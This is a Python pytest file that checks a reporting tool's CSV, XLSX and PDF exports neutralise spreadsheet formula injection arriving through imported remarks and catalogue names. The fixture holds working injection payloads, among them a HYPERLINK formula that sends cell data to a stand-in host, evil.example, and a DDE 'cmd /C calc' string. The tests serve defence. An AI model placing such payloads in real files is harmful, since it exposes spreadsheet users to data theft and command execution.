"""Formula injection: hostile text from an import or the catalogue arrives inert in every export."""

import datetime as dt
import io

import pytest
from openpyxl import load_workbook

import reports
from ozg.batches import BatchInfo
from ozg.domain import StatusUpdate
from ozg.status import apply_updates
from reports.safe import TRIGGERS
from tests.reports.conftest import csv_rows, pdf_text

GIESSEN = "06531005"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Details")'
CMD = "=cmd|' /C calc'!A0"


@pytest.fixture
def hostile(db):
    """Gießen reports remarks and a platform that start with formula characters; a catalogue name is a formula."""
    late = dt.date(2024, 1, 31)  # overdue, so the Leistung is also listed in the PDF and on the Fristen sheet
    apply_updates(db, GIESSEN, [
        StatusUpdate("10000", {"reifegrad": 1, "status": "Umsetzung", "geplant_bis": late, "bemerkung": HYPERLINK,
                               "plattform": "+1"}),
        StatusUpdate("10001", {"reifegrad": 2, "status": "Pilot", "bemerkung": "@SUM(1+1)*cmd|' /C calc'!A0"}),
        StatusUpdate("10002", {"reifegrad": 0, "status": "geplant", "bemerkung": "-2+3"}),
        StatusUpdate("10003", {"reifegrad": 0, "status": "geplant", "bemerkung": "\tTab", "plattform": "\rCR"}),
    ], BatchInfo("edit", "test", ags=GIESSEN))
    with db.transaction() as conn:  # the catalogue is imported from files too
        conn.execute("UPDATE leistung SET name = ? WHERE ozg_id = ?", [CMD, "10000"])
    return reports.export_all(db)


def test_csv_neutralises_every_text_cell(hostile):
    rows = csv_rows(hostile["csv"])
    header = rows[0]
    row = next(r for r in rows if r[0] == GIESSEN and r[2] == "10000")
    assert row[header.index("Bemerkung")] == "'" + HYPERLINK
    assert row[header.index("Plattform")] == "'+1"
    assert row[header.index("Leistung")] == "'" + CMD
    remarks = {r[2]: r[header.index("Bemerkung")] for r in rows if r[0] == GIESSEN}
    assert remarks["10001"].startswith("'@") and remarks["10002"] == "'-2+3" and remarks["10003"] == "'\tTab"
    assert not [c for r in rows for c in r if c.startswith(TRIGGERS)]


def test_xlsx_keeps_hostile_text_as_inert_typed_text(hostile):
    """No formula anywhere; text starting like one is a string cell with quotePrefix and no apostrophe added."""
    wb = load_workbook(io.BytesIO(hostile["xlsx"]))
    seen = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith("'"), f"{ws.title}!{cell.coordinate}: {cell.value!r}"
                    if cell.value.startswith(TRIGGERS):
                        assert cell.data_type == "s" and cell.quotePrefix, f"{ws.title}!{cell.coordinate}"
                    seen.setdefault(cell.value, []).append(ws.title)
    assert HYPERLINK in seen and "+1" in seen and "\tTab" in seen and "-2+3" in seen
    assert "\nCR" in seen  # XML turns the stored CR into LF on reading
    assert len(seen[CMD]) >= 2  # Status and Fristen sheets


def test_pdf_shows_the_neutralised_text(hostile):
    text = pdf_text(hostile["pdf"])
    assert "'=cmd|" in text
